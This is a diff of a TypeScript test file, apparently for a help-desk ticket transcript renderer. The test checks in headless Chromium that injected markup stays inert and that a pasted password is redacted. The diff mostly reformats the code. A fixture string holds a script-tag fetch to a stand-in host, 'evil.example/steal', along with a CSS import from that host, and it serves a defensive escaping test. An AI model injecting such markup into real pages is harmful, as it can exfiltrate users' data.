@@ -27,8 +27,8 @@ const PNG_URL = 'https://cdn.discordapp.com/attachments/111/222/screenshot.png';
 const LOG_URL = 'https://files.example.com/logs/app.log?download=1&v=2';
 
 /** Markup that would fetch from outside if it were ever taken as markup rather than text. */
-const HOSTILE = '<script>fetch("https://evil.example/steal")</script>'
-  + '<style>@import url(https://evil.example/x.css)</style>';
+const HOSTILE =
+  '<script>fetch("https://evil.example/steal")</script>' + '<style>@import url(https://evil.example/x.css)</style>';
 
 const base = { authorIsStaff: false, authorIsBot: false, attachments: [], embeds: [] };
 const ticket: TranscriptInput = {
@@ -104,8 +104,14 @@ describe.skipIf(!haveChromium && !inCi)('transcript in Debian Chromium (file:// 
     browser = await chromium.launch({
       executablePath: CHROMIUM,
       args: [
-        '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
-        '--disable-background-networking', '--disable-component-update', '--disable-sync',
+        '--headless',
+        '--no-sandbox',
+        '--disable-gpu',
+        '--disable-quic',
+        '--no-first-run',
+        '--disable-background-networking',
+        '--disable-component-update',
+        '--disable-sync',
       ],
     });
     page = await browser.newPage();
@@ -125,6 +131,7 @@ describe.skipIf(!haveChromium && !inCi)('transcript in Debian Chromium (file:// 
 
   it('ticket #7 renders: title "Ticket #7 · Acme Help" and every message text visible in innerText', async () => {
     expect(await page.title()).toBe('Ticket #7 · Acme Help');
+    // biome-ignore lint/performance/useDomNodeTextContent: Playwright's innerText (rendered text), not the DOM property
     const body = await page.innerText('body');
     for (const text of VISIBLE) expect(body).toContain(text);
     expect(body).toContain('Jane "JD" O\'Neil');
@@ -134,6 +141,7 @@ describe.skipIf(!haveChromium && !inCi)('transcript in Debian Chromium (file:// 
   });
 
   it('the pasted "my password is Hunter2!xyz" is nowhere in the rendered page', async () => {
+    // biome-ignore lint/performance/useDomNodeTextContent: Playwright's innerText (rendered text), not the DOM property
     expect(await page.innerText('body')).not.toContain('Hunter2');
     expect(await page.content()).not.toContain('Hunter2');
   });
